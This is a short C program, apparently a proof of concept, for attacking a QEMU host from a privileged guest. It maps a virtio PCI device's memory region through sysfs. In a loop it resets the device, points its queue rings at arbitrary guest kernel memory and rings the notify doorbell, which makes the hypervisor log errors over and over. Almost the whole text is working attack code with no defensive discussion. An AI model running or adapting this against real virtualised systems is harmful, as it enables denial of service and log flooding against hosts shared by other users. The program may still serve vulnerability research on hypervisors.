/* A hostile guest's kernel, in a container with all of its rights: makes QEMU complain of a virtio device again and again, which it does without end,
 * as the device is reset in between. PCI-DEVICE'S-DIRECTORY COUNT */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

/* virtio 1.1, 4.1.4.3, in the BAR and at the places that QEMU gives it */
struct common {
	uint32_t device_feature_select, device_feature, driver_feature_select, driver_feature;
	uint16_t msix_config, num_queues;
	uint8_t device_status, config_generation;
	uint16_t queue_select, queue_size, queue_msix_vector, queue_enable, queue_notify_off;
	uint32_t queue_desc[2], queue_driver[2], queue_device[2];
};
enum { SIZE = 0x4000, NOTIFY = 0x3000, NOTIFY_STEP = 4, KERNEL = 16 << 20, DRIVER = 3, FEATURES_OK = 8, DRIVER_OK = 4 };

int main(int argc, char **argv)
{
	char path[256];
	volatile struct common *common;
	volatile uint8_t *bar;
	int fd;

	if (argc != 3 || snprintf(path, sizeof(path), "%s/resource4", argv[1]) >= (int)sizeof(path))
		return 2;
	fd = open(path, O_RDWR);
	bar = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (fd < 0 || bar == MAP_FAILED) {
		perror(path);
		return 1;
	}
	common = (volatile struct common *)bar;
	for (int i = 0; i < atoi(argv[2]); i++) {
		common->device_status = 0;
		common->device_status = DRIVER;
		common->driver_feature_select = 1;
		common->driver_feature = 1; /* VIRTIO_F_VERSION_1 */
		common->device_status = DRIVER | FEATURES_OK;
		common->queue_select = 0;
		/* whatever lies there is no ring */
		common->queue_desc[0] = common->queue_driver[0] = common->queue_device[0] = KERNEL;
		common->queue_desc[1] = common->queue_driver[1] = common->queue_device[1] = 0;
		common->queue_enable = 1;
		common->device_status = DRIVER | FEATURES_OK | DRIVER_OK;
		*(volatile uint16_t *)(bar + NOTIFY + common->queue_notify_off * NOTIFY_STEP) = 0;
	}
	puts("done");
	return 0;
}
